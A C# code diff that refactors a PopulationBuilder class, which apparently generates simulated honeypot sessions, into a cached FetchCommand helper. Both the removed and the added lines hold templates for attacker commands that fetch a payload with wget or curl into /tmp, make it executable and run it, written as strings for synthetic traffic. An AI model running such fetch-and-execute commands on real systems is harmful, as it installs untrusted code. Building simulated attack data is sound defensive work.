@@ -240,10 +240,7 @@ public sealed class PopulationBuilder
             if (kit.Payloads.Length > 0)
             {
                 var payload = kit.Payloads[_random.Next(kit.Payloads.Length)];
-                var name = payload.Url[(payload.Url.LastIndexOf('/') + 1)..];
-                list.Insert(_random.Next(list.Count + 1), _random.Next(2) == 0
-                    ? $"cd /tmp || cd /var/run || cd /dev/shm; wget -q {payload.Url} -O {name}; chmod +x {name}; ./{name}"
-                    : $"curl -fsSL {payload.Url} -o /tmp/{name} && chmod 755 /tmp/{name} && /tmp/{name}");
+                list.Insert(_random.Next(list.Count + 1), FetchCommand(payload, _random.Next(2)));
                 downloads = [payload];
             }
             commands = [.. list];
@@ -251,6 +248,20 @@ public sealed class PopulationBuilder
         }
         var sensor = kit.Sensors[_random.Next(kit.Sensors.Length)];
         return NewSession(start, sensor, from, creds, success, commands, downloads, tcpip);
+    }
+
+    private readonly Dictionary<(Payload, int), string> _fetchCommands = [];
+
+    /// <summary>The command that fetches and runs a payload, in one of two common forms (cached: sessions repeat them).</summary>
+    private string FetchCommand(Payload payload, int form)
+    {
+        if (_fetchCommands.TryGetValue((payload, form), out var command)) return command;
+        var name = payload.Url[(payload.Url.LastIndexOf('/') + 1)..];
+        command = form == 0
+            ? $"cd /tmp || cd /var/run || cd /dev/shm; wget -q {payload.Url} -O {name}; chmod +x {name}; ./{name}"
+            : $"curl -fsSL {payload.Url} -o /tmp/{name} && chmod 755 /tmp/{name} && /tmp/{name}";
+        _fetchCommands[(payload, form)] = command;
+        return command;
     }
 
     private SimulatedSession NewSession(DateTimeOffset start, string sensor, int from, int creds, bool success,
